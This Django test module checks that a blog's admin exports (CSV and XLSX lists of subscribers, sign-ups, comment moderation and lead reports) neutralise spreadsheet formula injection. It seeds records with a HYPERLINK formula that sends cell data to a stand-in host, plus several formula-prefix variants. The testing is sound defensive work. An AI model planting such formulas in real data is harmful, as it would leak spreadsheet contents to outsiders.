"""Guarantee S11: no list that can be taken along as a spreadsheet holds a formula that someone else typed."""

import csv
import io
from collections.abc import Iterator
from typing import Any

from django.contrib.auth import get_user_model
from django.test import TestCase
from django.urls import URLPattern, URLResolver, get_resolver, reverse
from django.utils import timezone
from openpyxl import load_workbook

from comments.models import CommentEvent, Status
from guard.spreadsheets import FORMULA_STARTS, FormulaSafeExport
from leads.models import MagnetView, SignUp, Subscriber
from tests.blog.factories import make_site
from tests.comments.factories import make_comment
from tests.leads.gifts import make_magnet

OURS = ("blog.", "comments.", "leads.", "mailing.")
# As long as a placement may be.
FORMULA = '=HYPERLINK("http://e.example?"&A1,"k")'
OTHERS = ("+1+1", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1", "＝1+1", "\u200b=1+1")  # noqa: RUF001


def lists(patterns: list[URLPattern | URLResolver], namespace: str = "") -> Iterator[tuple[str, Any]]:
    """Yield the name of each address and the class of its view, of the admin's lists of ours that export."""
    for entry in patterns:
        if isinstance(entry, URLResolver):
            inner = f"{namespace}{entry.namespace}:" if entry.namespace else namespace
            yield from lists(entry.url_patterns, inner)
            continue
        view = getattr(entry.callback, "view_class", None)
        exports = entry.default_args.get("list_export") or getattr(entry.callback, "view_initkwargs", {}).get(
            "list_export", getattr(view, "list_export", None)
        )
        if view and exports and str(view.__module__).startswith(OURS):
            yield f"{namespace}{entry.name}", view


class ExportTests(TestCase):
    @classmethod
    def setUpTestData(cls):
        cls.coach = get_user_model().objects.create_superuser("coach", "coach@tussentij.example", "x")
        article = make_site().article(title=FORMULA)
        magnet = make_magnet(name=FORMULA)
        now = timezone.now()
        for number, typed in enumerate((FORMULA, *OTHERS)):
            subscriber = Subscriber.objects.create(
                email=f"={number}+1@voorbeeld.example", first_name=typed, import_source=typed
            )
            SignUp.objects.create(
                subscriber=subscriber,
                magnet=magnet,
                page=article,
                page_url=typed,
                placement=typed,
                first_name=typed,
                token_hash=str(number),
                token_expires_at=now,
                requested_at=now,
            )
            MagnetView.objects.create(
                magnet=magnet, page=article.pk, placement=f"={number}", day=now.date(), count=1
            )
            comment = make_comment(article, number, author_name=typed, text=typed, created_at=now)
            CommentEvent.objects.create(
                comment=comment,
                user=cls.coach,
                user_name=typed,
                action="approve",
                to_status=Status.APPROVED,
                reason=typed,
                created_at=now,
            )

    def setUp(self):
        self.client.force_login(self.coach)

    def rows(self, address: str, kind: str) -> list[list[Any]]:
        answer = self.client.get(address)
        assert answer.status_code == 200, address
        content = b"".join(answer) if answer.streaming else answer.content
        assert "attachment" in answer["Content-Disposition"], address
        if kind == "xlsx":
            sheet = load_workbook(io.BytesIO(content)).active
            assert not any(cell.data_type == "f" for row in sheet.iter_rows() for cell in row), address
            return [[cell.value for cell in row] for row in sheet.iter_rows()]
        separator = ";" if b";" in content.split(b"\n")[0] else ","
        return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""), delimiter=separator))

    def assert_harmless(self, address: str, kind: str) -> None:
        rows = self.rows(address, kind)
        assert len(rows) > 1, address
        cells = [cell for row in rows for cell in row if isinstance(cell, str)]
        assert not [cell for cell in cells if cell.lstrip("\u200b \t\r\n")[:1] in FORMULA_STARTS - {"-"}]
        # A lone dash stands where there is nothing to tell.
        assert not [cell for cell in cells if cell.startswith("-") and cell.strip("- ")], address

    def test_every_list(self):
        found = dict(lists(get_resolver().url_patterns))
        assert {"sign_ups:index", "subscribers:index", "comment_moderation:index"} <= set(found)
        for name, view in found.items():
            assert issubclass(view, FormulaSafeExport), name
            if name.endswith(":index"):
                for kind in ("csv", "xlsx"):
                    with self.subTest(name, kind=kind):
                        self.assert_harmless(f"{reverse(name)}?export={kind}", kind)

    def test_report_of_gifts(self):
        page = self.client.get(reverse("lead_report")).content.decode()
        for table in {part.split('"')[0].split("&")[0] for part in page.split("tabel=")[1:]}:
            for kind in ("csv", "xlsx"):
                with self.subTest(table, kind=kind):
                    self.assert_harmless(f"{reverse('lead_report')}?tabel={table}&uitvoer={kind}", kind)
